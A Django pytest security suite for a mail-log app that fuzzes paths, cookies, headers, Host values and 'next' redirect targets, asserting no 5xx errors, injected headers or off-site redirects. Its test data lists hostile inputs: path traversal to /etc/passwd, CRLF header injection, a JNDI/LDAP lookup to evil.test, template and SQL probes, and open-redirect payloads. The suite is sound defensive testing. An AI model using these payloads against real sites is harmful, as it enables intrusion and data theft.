"""Hostile paths, cookies, headers and places to return to: an answer, never a 5xx, and nobody is led elsewhere."""

import re
from collections.abc import Iterator
from itertools import product

import pytest
from django.conf import settings as django_settings
from django.test import Client, RequestFactory
from django.urls import Resolver404, resolve

from maillog.content.storage import unpack
from maillog.models import Message
from tests.cases import case
from tests.config.site import PAGES, Page, freshly_signed_in, undone, watched_rows
from tests.conftest import signed_in
from tests.factories import PASSWORD

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("quiet")]

NUMBERS = (
    *("0", "-1", "+1", "01", "1.0", "1e3", "9223372036854775807", "9223372036854775808", "9" * 40, "9" * 5_000),
    *("%00", "1%00", "%0a", "1%0d%0aX-Evil:%201", "..", "%2e%2e", "..%2f..%2fetc%2fpasswd", "%ff%fe", "%ed%a0%80", "٣"),
    *("%", "%u0031", "{{7*7}}", "'", "1;drop", "%20", "null", "1/1", "/", "\\", "%5c", "*", "x" * 8_000),
)
NAMED = re.compile(r"{(mail|secret|session|key)}")


# ---------------------------------------------------------------- paths


def hostile_paths() -> Iterator[tuple[Page, str]]:
    """Yield each page that names a row, with each number; where that is no address, one page is like another."""
    nowhere = set()
    numbers = (*NUMBERS, "zzzzzzzzzzzzz-abc", "1-%00", "1-" + "x" * 5_000, "-", "0-0-0")
    for page, number in product([page for page in PAGES if NAMED.search(page.path)], numbers):
        path = NAMED.sub(number.replace("\\", r"\\"), page.path)
        try:
            resolve(RequestFactory().get(path).path_info)
        except Resolver404:
            if number in nowhere:
                continue
            nowhere.add(number)
        yield page, path


def test_no_number_in_a_path_breaks_a_page(site):
    visitors = {"anonymous": Client(), "administrator": freshly_signed_in(site.admin)}
    with watched_rows() as rows:
        for (page, path), who, method in product(hostile_paths(), visitors, ("get", "post")):
            with undone(visitors[who], who, method, path):
                response = getattr(visitors[who], method)(path)
                assert response.status_code < 500
                assert "X-Evil" not in response.headers
                assert page.acts or not rows.changes()


def test_no_path_breaks_the_site(site):
    client = freshly_signed_in(site.admin)
    starts = (
        *("/", "//", "/static/", "/log/", "/secrets/new/", "/mail/", "/account/", "/account/confirm-email/"),
        "/healthz",
    )
    tails = (
        *("%00", "%ff", "..%2f", "%2e%2e/%2e%2e/etc/passwd", "x" * 8_000, "?"),
        *("%0d%0aSet-Cookie:%20a=b", ";a=b"),
    )
    for start, tail in product(starts, tails):
        with undone(client, start, tail):
            response = client.get(start + tail)
            assert response.status_code < 500
            assert not response.cookies.get("a")
            assert re.match(r"/(?![/\\])", response.headers.get("Location", "/"))


# ---------------------------------------------------------------- cookies and headers

COOKIES = (
    *("", " ", "x", "x" * 5_000, "'", "../../etc/passwd", "ä" * 40, "%00" * 20, "a" * 32 + "\x80"),
    '"' + "\\000" * 16 + '"',  # the cookie parser makes NULs of it
    '"' + "\\015\\012" * 8 + '"',
    '"\\355\\240\\200aaaaaaaa"',
    *("W10=:1:2", "[[", "null", "{}", "1" * 64),
)


def test_no_cookie_breaks_a_page(site):
    names = (
        *(["sessionid"], ["csrftoken"], ["messages"], ["django_language"]),
        ["sessionid", "csrftoken", "messages"],
    )
    paths = ("/", "/log/", "/account/login/", "/account/password/reset/", "/setup/")
    client = Client(enforce_csrf_checks=True)
    with watched_rows() as rows:
        for cookie, hostile, path in product(COOKIES, names, paths):
            header = "; ".join(f"{name}={cookie}" for name in hostile)  # in place of the browser's own
            with case(cookie, hostile, path):
                assert client.get(path, headers={"cookie": header}).status_code in {200, 302}
                posted = client.post(path, {"csrfmiddlewaretoken": cookie}, headers={"cookie": header})
                assert posted.status_code in {200, 302, 403}
                assert not rows.changes()


HEADERS = {
    "accept-language": ["de;q=x", "*" * 2_000, "\x00", "en-" + "a" * 600, ",,,;;;", "../../x"],
    "user-agent": ["", "x" * 5_000, "\xff\xfe", "${jndi:ldap://evil.test/a}", "<script>"],
    "x-forwarded-for": ["evil", "1.2.3.4, ::1", "9" * 500, "%00", "'"],
    "x-forwarded-host": ["evil.example"],
    "x-forwarded-proto": ["https", "nonsense"],
    "referer": ["http://[", "//evil.example", "x" * 5_000, "\xff"],
    "origin": ["null", "http://[", "https://evil.example"],
    "content-type": ["\xff", ";;;"],
    "content-length": ["-1", "x", "9" * 30],
    "accept": ["application/json", "\xff"],
    "x-requested-with": ["XMLHttpRequest"],
    "hx-request": ["true", "\xff"],
    "hx-current-url": ["http://[", "%ED%A0%80", "//evil.example/x"],
    "hx-boosted": ["true"],
    "if-modified-since": ["yesterday", "Thu, 99 Foo 99999 99:99:99 GMT"],
    "if-none-match": ['"', "*"],
    "range": ["bytes=9-1"],
    "x-http-method-override": ["DELETE"],
    "x-rewrite-url": ["/mail/settings/"],
}


def test_no_header_breaks_a_page(site):
    visitors = {"anonymous": Client(), "administrator": signed_in(site.admin)}
    paths = ("/", "/log/", f"/log/{site.mail.pk}/", "/secrets/", "/account/sessions/", "/account/login/")
    typed = {"login": site.admin.email, "password": PASSWORD}
    for name, value in ((name, value) for name, values in HEADERS.items() for value in values):
        headers = {name: value, "hx-request": "true"} if name.startswith("hx-") else {name: value}
        for (who, client), path in product(visitors.items(), paths):
            with undone(client, who, path, name, value):
                response = client.get(path, headers=headers)
                assert response.status_code < 500
                assert "evil.example" not in response.text + str(response.headers)
        if not name.startswith("content-"):
            with undone(visitors["anonymous"], "sign in", name, value):
                assert visitors["anonymous"].post("/account/login/", typed, headers=headers).status_code == 302


# ---------------------------------------------------------------- host names and places to return to

HOSTS = (
    "evil.example",
    "localhost@evil.example",
    "localhost:80@evil.example",
    "localhost.evil.example",
    "a b",
    "[::1",
    "\xff",
)


def test_a_foreign_host_name_is_refused(site):
    visitors = {"anonymous": Client(), "administrator": signed_in(site.admin)}
    for host, who, path in product(HOSTS, visitors, ("/", "/account/login/", "/log/")):
        with case(host, who, path):
            response = visitors[who].get(path, headers={"host": host})
            assert response.status_code == 400
            assert "evil" not in response.text


def test_links_in_mails_do_not_follow_the_request(site):
    client = Client()
    for forged in (
        {"x-forwarded-host": "evil.example"},
        {"host": "localhost:1337"},
        {"forwarded": "host=evil.example"},
    ):
        with undone(client, forged):
            client.post("/account/password/reset/", {"email": site.admin.email}, headers=forged)
            text = unpack(Message.objects.get(is_sensitive=True).content.mime).decode()
            assert f"{django_settings.BASE_URL}/account/password/reset/key/" in text.replace("=\r\n", "")
            assert "evil" not in text
            assert "1337" not in text


TARGETS = (
    *(
        "https://evil.example",
        "//evil.example",
        "///evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "evil.example",
    ),
    *("https:evil.example", "https:///evil.example", "javascript:alert(1)", "data:text/html,x", "/%09/evil.example"),
    *(
        "/\t/evil.example",
        " //evil.example",
        "\x00//evil.example",
        "/\r\nX-Evil: 1",
        "http://[",
        "//[",
        "/..//evil.example",
    ),
    *(
        "https://testserver@evil.example",
        "https://testserver.evil.example",
        "//evil%E3%80%82example",
        "@evil.example",
        "?x",
    ),
)


def test_nobody_is_led_to_another_site(site):
    anonymous, signed, fresh = Client(), signed_in(site.admin), freshly_signed_in(site.admin)
    typed = {"login": site.admin.email, "password": PASSWORD}
    for target in TARGETS:
        for client, method, path, fields in (
            (anonymous, "post", "/account/login/", typed),
            (signed, "post", "/account/reauthenticate/", typed),
            (signed, "post", "/account/logout/", typed),
            (signed, "get", "/account/login/", {}),
            (fresh, "get", "/account/reauthenticate/", {}),
        ):
            with undone(client, method, path, target):
                response = getattr(client, method)(path, {**fields, "next": target})
                location = response.headers.get("Location", "/")
                assert re.match(r"/(?![/\\])[^\x00-\x20\x7f]*$", location), location
                assert "X-Evil" not in response.headers
        with case(target):
            page = anonymous.get("/account/login/", {"next": target}).text
            assert not re.search(r"""(href|action)=["'](?!/(?![/\\])|#|\?)""", page)
